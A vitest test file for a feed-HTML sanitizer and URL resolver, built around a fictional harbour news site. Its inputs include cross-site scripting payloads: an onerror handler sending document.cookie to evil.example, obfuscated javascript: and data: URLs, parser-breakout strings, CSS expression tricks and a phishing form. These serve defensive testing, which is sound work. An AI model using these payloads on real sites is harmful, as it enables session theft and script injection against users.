import { describe, expect, it } from 'vitest';
import { resolveUrl, sanitizeFeedHtml } from './sanitize.js';

const BASE = 'https://harbour-gazette.example/news/2024/05/ferry-strike.html';
const clean = (html: string, base: string | null = BASE) => sanitizeFeedHtml(html, base);

describe('sanitizeFeedHtml: active content', () => {
  it('removes script and style elements with their content', () => {
    const html =
      '<p>The ferry union voted to strike.</p><script>document.cookie="x="+1;</script>' +
      '<style>body { display: none }</style><p>Talks resume Monday.</p>';
    expect(clean(html)).toBe('<p>The ferry union voted to strike.</p><p>Talks resume Monday.</p>');
  });

  it('removes event handler attributes but keeps the element', () => {
    const out = clean('<img src="/img/pier.jpg" alt="Pier 4" onerror="fetch(\'//evil.example/\'+document.cookie)" onload="x()">');
    expect(out).toBe('<img src="https://harbour-gazette.example/img/pier.jpg" alt="Pier 4" />');
  });

  it('empties javascript:, vbscript: and data: links, however they are disguised', () => {
    for (const href of [
      'javascript:alert(1)',
      ' JaVaScRiPt:alert(1)',
      'jav&#x09;ascript:alert(1)',
      '&#106;avascript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    ]) {
      expect(clean(`<a href="${href}">Read more</a>`)).toBe('<a href="">Read more</a>');
    }
    expect(clean('<blockquote cite="javascript:alert(1)">Quote</blockquote>')).toBe('<blockquote cite="">Quote</blockquote>');
    expect(clean('<video poster="javascript:alert(1)"></video>')).toBe('<video poster=""></video>');
  });

  it('keeps inline raster images but not SVG data URLs', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img src="" />');
    expect(clean('<a href="data:image/png;base64,iVBORw0KGgo=">x</a>')).toBe('<a href="">x</a>');
  });

  it('drops object, embed, applet, meta, link, base and frames', () => {
    const html =
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">' +
      '<link rel="stylesheet" href="https://evil.example/x.css"><applet code="Evil.class">applet text</applet>' +
      '<object data="/media/tour.swf"><param name="autoplay" value="true"><embed src="/media/tour.swf">Watch the tour</object>' +
      '<frameset><frame src="https://evil.example/"></frameset>Done.';
    expect(clean(html)).toBe('Watch the tourDone.');
  });

  it('drops SVG and MathML entirely', () => {
    expect(clean('<svg onload="alert(1)"><script>alert(1)</script><circle r="4"/></svg>Chart above')).toBe('Chart above');
    expect(clean('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>')).toBe('');
  });

  it('drops comments, including malformed and unterminated ones, and processing instructions', () => {
    expect(clean('<p>Harbour<!-- tracking: id=42 --> reopens</p>')).toBe('<p>Harbour reopens</p>');
    expect(clean('Ha<!-- -- sneaky >rbour<script>alert(1)</script>')).toBe('Harbour');
    expect(clean('Harbour<!-- never closed <b>hidden</b>')).toBe('Harbour');
    expect(clean('<?xml-stylesheet href="x.xsl"?><p>Harbour</p>')).toBe('<p>Harbour</p>');
  });

  it('cannot be tricked into emitting a closing tag from inside an attribute', () => {
    const out = clean('<noscript><p title="</noscript><img src=x onerror=alert(1)>">Enable JS</p></noscript>');
    expect(out).toBe('<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">Enable JS</p></noscript>');
  });
});

describe('sanitizeFeedHtml: iframes', () => {
  it('keeps YouTube, Vimeo and Dailymotion players with only safe attributes', () => {
    const out = clean(
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=30" title="Strike vote" ' +
        'frameborder="0" allow="autoplay; camera; microphone" allowfullscreen onload="steal()" ' +
        'style="position:fixed;top:0" name="x"></iframe>',
    );
    expect(out).toBe(
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=30" title="Strike vote" frameborder="0" allowfullscreen=""></iframe>',
    );
    expect(clean('<iframe src="//www.youtube-nocookie.com/embed/abc"></iframe>')).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>',
    );
    expect(clean('<iframe src="https://player.vimeo.com/video/76979871"></iframe>')).toContain('src="https://player.vimeo.com/video/76979871"');
    expect(clean('<iframe src="https://www.dailymotion.com/embed/video/x8abc"></iframe>')).toContain('<iframe');
  });

  it('removes any other iframe, keeping its fallback text', () => {
    expect(clean('Poll: <iframe src="https://polls.example/embed/7">Vote here</iframe>')).toBe('Poll: Vote here');
    expect(clean('<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>')).toBe('');
    expect(clean('<iframe src="https://www.youtube.com/watch?v=x"></iframe>')).toBe('');
    expect(clean('<iframe src="/embed/local"></iframe>')).toBe('');
    expect(clean('<iframe srcdoc="<script>alert(1)</script>"></iframe>')).toBe('');
  });
});

describe('sanitizeFeedHtml: forms', () => {
  it('removes forms and their controls but keeps visible text', () => {
    const html =
      '<form action="https://phish.example/login" method="post"><label>Reader login</label>' +
      '<input type="password" name="pw"><select name="s"><option>One</option></select>' +
      '<textarea>Prefilled</textarea><button type="submit">Sign in</button></form>';
    expect(clean(html)).toBe('<label>Reader login</label>Sign in');
  });
});

describe('sanitizeFeedHtml: CSS', () => {
  it('keeps harmless declarations in a normalized form', () => {
    expect(clean('<span style="color:#c00;font-weight : bold;text-align:center">Breaking</span>')).toBe(
      '<span style="color: #c00; font-weight: bold; text-align: center;">Breaking</span>',
    );
    expect(clean('<td style="border: 1px solid rgb(0, 0, 0); padding: 4px 8px; background-color: #eee">x</td>')).toBe(
      '<td style="border: 1px solid rgb(0, 0, 0); padding: 4px 8px; background-color: #eee;">x</td>',
    );
    expect(clean('<p style="font-family: \'Georgia\', serif; margin: 0 0 12px">x</p>')).toBe(
      '<p style="font-family: \'Georgia\', serif; margin: 0 0 12px;">x</p>',
    );
  });

  it('drops declarations that hide, overlay or break out of the item', () => {
    const overlay =
      'position:fixed; top:0; left:0; z-index:99999; opacity:0.01; visibility:visible; color: navy';
    expect(clean(`<a href="/offer" style="${overlay}">Win</a>`)).toBe(
      '<a href="https://harbour-gazette.example/offer" style="color: navy;">Win</a>',
    );
    expect(clean('<div style="display:none">Hidden keywords</div>')).toBe('<div>Hidden keywords</div>');
    expect(clean('<div style="visibility:hidden">x</div>')).toBe('<div>x</div>');
    expect(clean('<div style="margin-top:-400px; color: red">x</div>')).toBe('<div style="color: red;">x</div>');
    expect(clean('<div style="margin-left: 9999em">x</div>')).toBe('<div>x</div>');
    expect(clean('<p style="text-indent:-9999px">x</p>')).toBe('<p>x</p>');
    expect(clean('<p style="font-size: 0">x</p>')).toBe('<p>x</p>');
  });

  it('drops script-bearing and resource-loading CSS', () => {
    expect(clean('<p style="width: expression(alert(1))">x</p>')).toBe('<p>x</p>');
    expect(clean('<p style="background-image: url(javascript:alert(1)); color: teal">x</p>')).toBe('<p style="color: teal;">x</p>');
    expect(clean('<p style="behavior: url(evil.htc); -moz-binding: url(evil.xml#x)">x</p>')).toBe('<p>x</p>');
    expect(clean('<p style="color: \\65 xpression(alert(1))">x</p>')).toBe('<p>x</p>');
    expect(clean('<p style="color: red /* comment */">x</p>')).toBe('<p>x</p>');
  });
});

describe('sanitizeFeedHtml: URLs', () => {
  it('resolves relative href and src against the base', () => {
    const html = '<p><a href="../04/ferry-timetable.html">Timetable</a> <img src="/img/terminal.jpg" alt=""></p>';
    expect(clean(html)).toBe(
      '<p><a href="https://harbour-gazette.example/news/2024/04/ferry-timetable.html">Timetable</a> ' +
        '<img src="https://harbour-gazette.example/img/terminal.jpg" alt="" /></p>',
    );
    expect(clean('<a href="#update">Update</a>')).toBe('<a href="https://harbour-gazette.example/news/2024/05/ferry-strike.html#update">Update</a>');
    expect(clean('<a href="//cdn.example/report.pdf">PDF</a>')).toBe('<a href="https://cdn.example/report.pdf">PDF</a>');
  });

  it('resolves every srcset candidate and drops unsafe ones', () => {
    const out = clean(
      '<picture><source srcset="https://cdn.example/c_fill,w_400/ferry.webp 400w, /c_fill,w_800/ferry.webp 800w" type="image/webp">' +
        '<img src="ferry.jpg" srcset="ferry.jpg 1x, ferry@2x.jpg 2x, javascript:alert(1) 3x" alt="Ferry"></picture>',
    );
    expect(out).toBe(
      '<picture><source srcset="https://cdn.example/c_fill,w_400/ferry.webp 400w, https://harbour-gazette.example/c_fill,w_800/ferry.webp 800w" type="image/webp" />' +
        '<img src="https://harbour-gazette.example/news/2024/05/ferry.jpg" srcset="https://harbour-gazette.example/news/2024/05/ferry.jpg 1x, https://harbour-gazette.example/news/2024/05/ferry@2x.jpg 2x" alt="Ferry" /></picture>',
    );
  });

  it('resolves cite, poster and media sources too', () => {
    expect(clean('<video src="clip.mp4" poster="clip.jpg" controls autoplay><track src="clip.vtt" kind="captions"></video>')).toBe(
      '<video src="https://harbour-gazette.example/news/2024/05/clip.mp4" poster="https://harbour-gazette.example/news/2024/05/clip.jpg" controls="">' +
        '<track src="https://harbour-gazette.example/news/2024/05/clip.vtt" kind="captions" /></video>',
    );
    expect(clean('<q cite="/sources/union-statement">We will not back down</q>')).toBe(
      '<q cite="https://harbour-gazette.example/sources/union-statement">We will not back down</q>',
    );
  });

  it('leaves relative URLs relative without a base, but still checks their scheme', () => {
    expect(clean('<a href="/news/ferry">Ferry</a>', null)).toBe('<a href="/news/ferry">Ferry</a>');
    expect(clean('<a href="javascript:void(0)">x</a>', null)).toBe('<a href="">x</a>');
  });

  it('keeps mailto and tel links, refuses file: links', () => {
    expect(clean('<a href="mailto:tips@harbour-gazette.example">Tips</a>')).toBe('<a href="mailto:tips@harbour-gazette.example">Tips</a>');
    expect(clean('<a href="tel:+3725550100">Call</a>')).toBe('<a href="tel:+3725550100">Call</a>');
    expect(clean('<a href="file:///etc/passwd">x</a>')).toBe('<a href="">x</a>');
  });
});

describe('sanitizeFeedHtml: text and markup shape', () => {
  it('decodes entities and escapes only what must be escaped', () => {
    expect(clean('<p>Caf&eacute; owners &amp; crews &lt;b&gt;angry&lt;/b&gt; &#8212; &quot;enough&quot; &bogus;</p>')).toBe(
      '<p>Café owners &amp; crews &lt;b&gt;angry&lt;/b&gt; — "enough" &amp;bogus;</p>',
    );
    expect(clean('<a title="Q&amp;A &quot;live&quot;" href="/qa?x=1&amp;y=2">Q&amp;A</a>')).toBe(
      '<a title="Q&amp;A &quot;live&quot;" href="https://harbour-gazette.example/qa?x=1&amp;y=2">Q&amp;A</a>',
    );
  });

  it('returns plain text untouched', () => {
    const text = 'Ferry strike enters third day as talks stall';
    expect(clean(text)).toBe(text);
    expect(clean('Prices up 5% in May: what it means')).toBe('Prices up 5% in May: what it means');
    expect(clean('  Tom & Jerry  ')).toBe('Tom &amp; Jerry');
  });

  it('writes void elements as <br /> and empty attributes as attr=""', () => {
    expect(clean('Line one<br>Line two<br/><hr>')).toBe('Line one<br />Line two<br /><hr />');
    expect(clean('Line<br></br>next')).toBe('Line<br />next');
    expect(clean('<details open><summary>More</summary>Text</details>')).toBe('<details open=""><summary>More</summary>Text</details>');
  });

  it('keeps a broad set of ordinary elements and attributes', () => {
    const html =
      '<figure><img src="a.jpg" width="640" height="480" alt="Quay"><figcaption>The <mark>quay</mark></figcaption></figure>' +
      '<table summary="Sailings"><tr><th scope="col" colspan="2">Sailings</th></tr><tr><td align="right">9:00</td></tr></table>' +
      '<ul><li><abbr title="Estonian">EE</abbr> <del datetime="2024-05-01">old</del><ins>new</ins></li></ul>';
    expect(clean(html, null)).toBe(
      '<figure><img src="a.jpg" width="640" height="480" alt="Quay" /><figcaption>The <mark>quay</mark></figcaption></figure>' +
        '<table summary="Sailings"><tr><th scope="col" colspan="2">Sailings</th></tr><tr><td align="right">9:00</td></tr></table>' +
        '<ul><li><abbr title="Estonian">EE</abbr> <del datetime="2024-05-01">old</del><ins>new</ins></li></ul>',
    );
  });

  it('drops unknown tags but keeps their text', () => {
    expect(clean('<blink>Live</blink> <marquee>coverage</marquee> <custom-widget data-x="1">now</custom-widget>')).toBe('Live coverage now');
  });

  it('does not throw on malformed HTML', () => {
    const inputs = [
      '<div><p>unclosed <b>bold <i>italic</div></p>',
      '<<<>>>',
      '<a href="unterminated',
      '</',
      '<',
      '<!DOCTYPE',
      '<![CDATA[ x ]]>',
      '<img src=x onerror=alert(1)//',
      'a\u0000b',
      '<table><td>cell<tr><p>para</table>',
      '<'.repeat(1000) + '>'.repeat(1000),
      '<b>'.repeat(2000),
    ];
    for (const input of inputs) {
      expect(() => clean(input)).not.toThrow();
      // Escaped text such as "&lt;img onerror=…" is harmless; a live tag or handler is not.
      expect(clean(input)).not.toMatch(/<[a-z][^>]*\son\w+=|<script|\u0000/i);
    }
    expect(clean('<a href="unterminated')).toBe('&lt;a href="unterminated');
    expect(clean('<!DOCTYPE ~')).toBe('&lt;!DOCTYPE ~');
  });
});

describe('resolveUrl', () => {
  it('resolves relative URLs with the WHATWG parser', () => {
    expect(resolveUrl('story.html', 'https://harbour-gazette.example/news/')).toBe('https://harbour-gazette.example/news/story.html');
    expect(resolveUrl('../a b', 'https://harbour-gazette.example/news/x/')).toBe('https://harbour-gazette.example/news/a%20b');
    expect(resolveUrl('//cdn.example/x', 'http://harbour-gazette.example/')).toBe('http://cdn.example/x');
  });

  it('keeps absolute URLs as written and relative ones without a usable base', () => {
    expect(resolveUrl('https://other.example/path', 'https://harbour-gazette.example/')).toBe('https://other.example/path');
    expect(resolveUrl('/relative', null)).toBe('/relative');
    expect(resolveUrl('/relative', 'not a url')).toBe('/relative');
    expect(resolveUrl('/relative', 'file:///home/user/feed.xml')).toBe('/relative');
  });

  it('returns null for dangerous or unusable URLs and never throws', () => {
    expect(resolveUrl('javascript:alert(1)', 'https://harbour-gazette.example/')).toBeNull();
    expect(resolveUrl('\u0001javascript:alert(1)', null)).toBeNull();
    expect(resolveUrl('java\tscript:alert(1)', null)).toBeNull();
    expect(resolveUrl('vbscript:x', null)).toBeNull();
    expect(resolveUrl('data:text/html,<h1>x</h1>', null)).toBeNull();
    expect(resolveUrl('data:image/gif;base64,R0lGODlhAQABAAAAACw=', null)).toBe('data:image/gif;base64,R0lGODlhAQABAAAAACw=');
    expect(resolveUrl('   ', 'https://harbour-gazette.example/')).toBeNull();
    expect(() => resolveUrl('http://[::1', 'https://x.example/')).not.toThrow();
    expect(() => resolveUrl('%%%', 'https://x.example/')).not.toThrow();
  });
});

describe('resolveUrl: site-relative paths', () => {
  // Plain paths are resolved by concatenation for speed; the URL parser must agree every time.
  const bases = ['https://news.example/world/rss.xml', 'http://Ex.COM:80/a/b?c#d', 'https://user:pw@x.example:8443/', 'https://bücher.example/x'];
  const paths = ['/a', '/a/b/c.html', '/a/./b', '/a/../b', '/.', '/..', '//evil.example/x', '/a.b/c.d', '/~user/x_y-z',
    '/a:b;c=d&e+f', '/a(b)*c!$', '/a/.hidden', '/a//b', '/a.', '/a/.', '/a/..', '/x..y', '/', "/a@b,c'd", '/a b', '/a%20b', '/ü', '/a?q=1#f'];
  it.each(bases)('matches new URL() against %s', (base) => {
    for (const path of paths) expect({ path, url: resolveUrl(path, base) }).toEqual({ path, url: new URL(path, base).href });
  });
});
